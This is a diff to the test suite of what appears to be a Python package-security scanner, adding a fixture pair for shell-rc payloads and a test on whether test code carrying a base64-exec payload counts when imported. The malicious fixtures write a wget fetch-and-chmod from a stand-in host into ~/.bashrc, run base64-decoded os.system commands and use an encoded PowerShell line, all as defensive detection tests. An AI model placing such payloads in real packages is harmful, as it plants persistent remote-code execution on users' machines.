@@ -331,6 +331,11 @@ CASES: list[tuple[str, dict[str, str | bytes], dict[str, str | bytes], str]] = [
      {"setup.py": hook(f"import base64, os\nos.system(base64.b64decode('{b64('id > /tmp/demo-owned')}').decode())")},
      {"setup.py": hook("import base64, subprocess\nsubprocess.run(['git', 'rev-parse', 'HEAD'])\n"
                        "LOGO = base64.b64decode('UE5H')")}, "sdist"),
+    ("code.shell-rc-payload",
+     {"demo/__init__.py": "import os\nrc = os.path.expanduser('~/.bashrc')\nwith open(rc, 'a') as f:\n"
+                          "    f.write('nohup sh -c \"wget -q https://dl.example.invalid/a -O ~/.local/.a; chmod +x ~/.local/.a\" &')\n"},
+     {"demo/completion.py": "import os\n\ndef install():\n    rc = os.path.expanduser('~/.bashrc')\n"
+                            "    with open(rc, 'a') as f:\n        f.write('eval \"$(demo --completion bash)\"')\n"}, "wheel"),
     # YARA rules
     ("yara.powershell-encoded",
      {"demo/run.bat": "powershell.exe -NoP -enc " + base64.b64encode("IEX x".encode("utf-16le") * 4).decode() + "\n"},
@@ -517,3 +522,13 @@ def test_one_rule_repeated_across_files_does_not_add_up(scan_sdist: Callable[...
     result = scan_sdist({f"demo/launchers/t{i}.exe": pe for i in range(40)})
     assert sum(f.rule == "yara.embedded-pe" for f in result.findings) == 40
     assert result.verdict == Verdict.ALLOW and result.score < 3.0
+
+
+def test_test_code_weighs_little_unless_package_code_imports_it(scan_wheel: Callable[..., ScanResult]) -> None:
+    payload = f"import base64\n\ndef reset():\n    exec(base64.b64decode('{b64(PAYLOAD)}'))\n"
+    dormant = scan_wheel({"demo/__init__.py": "VALUE = 1\n", "demo/tests/helper.py": payload})
+    assert dormant.verdict == Verdict.ALLOW
+    imported = scan_wheel({"demo/__init__.py": "from .tests import helper\nhelper.reset()\n",
+                           "demo/tests/__init__.py": "", "demo/tests/helper.py": payload})
+    assert "code.exec-decoded" in rules(imported)
+    assert imported.verdict != Verdict.ALLOW
